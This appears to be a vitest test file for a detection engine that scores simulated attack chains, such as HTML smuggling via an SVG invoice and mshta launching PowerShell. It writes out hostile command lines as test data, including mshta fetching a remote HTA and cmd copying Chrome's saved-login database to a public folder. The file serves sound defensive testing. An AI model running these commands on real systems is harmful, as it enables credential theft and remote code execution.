import { describe, expect, it } from 'vitest';
import { DEFAULT_SEVERITY, severityOf } from '../analytics/severity';
import {
  CMD,
  callsOut,
  EDGE,
  findingOf,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  RUNDLL32,
  storyOf,
  WSCRIPT,
} from '../analytics/testStory';
import type { Finding } from './finding';

const URL = 'https://files.example/view.hta';

function sumOf(finding: Finding): number {
  return finding.reasons.reduce(
    (sum, { effect, points, counted }) => sum + (counted ? (effect === 'lowers' ? -points : points) : 0),
    0,
  );
}

/** SVG → browser → ZIP → script, joined through files. */
function smuggled(): Finding {
  const { s } = storyOf();
  const outlook = s.starts(OUTLOOK);
  const svg = `${mailCacheOf(s)}\\Factura.svg`;
  s.writes(outlook, svg);
  s.marks(outlook, svg);
  const edge = s.starts(EDGE, { parent: outlook, commandLine: `"${EDGE}" --single-argument ${svg}` });
  s.after('5s');
  const zip = `${homeOf(s)}\\Downloads\\Factura.zip`;
  s.writes(edge, zip);
  s.marks(edge, zip, { hostUrl: 'about:internet' });
  const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_Factura.zip\\Factura.js`;
  s.writes(s.explorer, script);
  const host = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` });
  callsOut(s, host);
  return findingOf(s.events(), 'AN1407');
}

/** mshta on a remote HTA that starts a shell. */
function remote(
  without: readonly ('network_connect' | 'dns_query' | 'file_create' | 'file_stream')[] = [],
): Finding {
  const { s } = storyOf({ without });
  const mshta = s.starts(MSHTA, { commandLine: `${MSHTA} ${URL}` });
  s.starts(POWERSHELL, { parent: mshta });
  return findingOf(s.events(), 'AN1397');
}

describe('a score', () => {
  it('is the sum of its reasons, held down by the caps that it names', () => {
    for (const finding of [smuggled(), remote()]) {
      const limit = Math.min(100, ...finding.caps.map((cap) => cap.limit));
      expect(finding.score).toBe(Math.max(0, Math.min(limit, sumOf(finding))));
    }
  });

  it('does not change when other stages are blind', () => {
    expect(remote(['network_connect', 'dns_query', 'file_create', 'file_stream']).score).toBe(remote().score);
  });

  it('is held at 60 while the chain is partial, and says so', () => {
    const { s } = storyOf({ without: ['file_create', 'file_stream'] });
    const svg = `${homeOf(s)}\\Downloads\\Factura.svg`;
    const mshta = s.starts(MSHTA, { commandLine: `${MSHTA} ${svg}` });
    callsOut(s, mshta);
    s.starts(CMD, {
      parent: mshta,
      commandLine: `${CMD} /c copy "${homeOf(s)}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\Users\\Public`,
    });
    const finding = findingOf(s.events(), 'AN1407');
    expect(finding.status).toBe('partial');
    expect(finding.score).toBe(60);
    expect(finding.caps).toEqual([{ limit: 60, text: expect.stringContaining('at most 60') }]);
  });

  it('is kept when a suppressor hides the finding', () => {
    const { s } = storyOf();
    const outlook = s.starts(OUTLOOK);
    s.starts(RUNDLL32, {
      parent: outlook,
      commandLine: `"${RUNDLL32}" "C:\\Program Files\\Windows Photo Viewer\\PhotoViewer.dll", ImageView_Fullscreen C:\\a.png`,
    });
    const finding = findingOf(s.events(), 'AN1314');
    expect(finding.suppressed).toBe(true);
    expect(finding.score).toBeGreaterThan(0);
    expect(finding.reasons.filter((reason) => reason.effect === 'suppresses')).toHaveLength(1);
  });

  it.each([
    [100, 'critical'],
    [85, 'critical'],
    [84, 'high'],
    [65, 'high'],
    [64, 'medium'],
    [40, 'medium'],
    [39, 'low'],
    [20, 'low'],
    [19, 'informational'],
    [0, 'informational'],
  ] as const)('of %i is %s', (points, severity) =>
    expect(severityOf(points, DEFAULT_SEVERITY)).toBe(severity),
  );
});

describe('a finding', () => {
  it('quotes for every reason an event of its own stages, or none', () => {
    const finding = smuggled();
    for (const reason of finding.reasons) {
      if (reason.stage === undefined) continue;
      const stage = finding.stages.find((one) => one.id === reason.stage);
      expect(
        stage?.events.map((event) => event.eventId),
        reason.text,
      ).toContain(reason.eventId);
    }
  });

  it('tells the story in the order it happened, with no place left unfilled', () => {
    const finding = smuggled();
    const texts = [
      finding.headline,
      ...finding.story.map((line) => line.text),
      ...finding.reasons.map((r) => r.text),
    ];
    for (const text of texts) expect(text).not.toMatch(/[{}]|undefined|something not recorded/);
    const told = finding.story.flatMap((line) =>
      line.eventId === undefined ? [] : [timeOf(finding, line.eventId)],
    );
    expect(told).toEqual([...told].sort((a, b) => a - b));
    expect(finding.trail.split(' → ')[0]).toBe('Factura.svg');
  });

  it('has every process of its stages on its path, each after its parent, and joins between processes on it', () => {
    for (const finding of [smuggled(), remote()]) {
      const path = new Set(finding.path);
      expect(path.size).toBe(finding.path.length);
      for (const join of finding.joins) {
        expect(path.has(join.from)).toBe(true);
        expect(path.has(join.to)).toBe(true);
      }
      for (const artefact of finding.artefacts) expect(path.has(artefact.from), artefact.label).toBe(true);
    }
  });

  it('says per stage which relation held, hop by hop, and explains the predicate', () => {
    const engine = smuggled().stages.find((stage) => stage.id === 'script_engine');
    expect(engine?.relation).toMatchObject({ kind: 'names_derived_file', strength: 'inferred' });
    expect(engine?.relation?.hops.length).toBeGreaterThan(1);
    expect(engine?.why?.result).toBe('true');
    expect(engine?.windowUsed).toBeLessThanOrEqual(engine?.windowLimit ?? 0);
  });

  it('is plain data: it survives being written down', () => {
    const finding = smuggled();
    expect(JSON.parse(JSON.stringify(finding))).toEqual(finding);
  });
});

function timeOf(finding: Finding, eventId: string): number {
  const event = finding.stages.flatMap((stage) => stage.events).find((one) => one.eventId === eventId);
  return event?.time ?? Number.NaN;
}
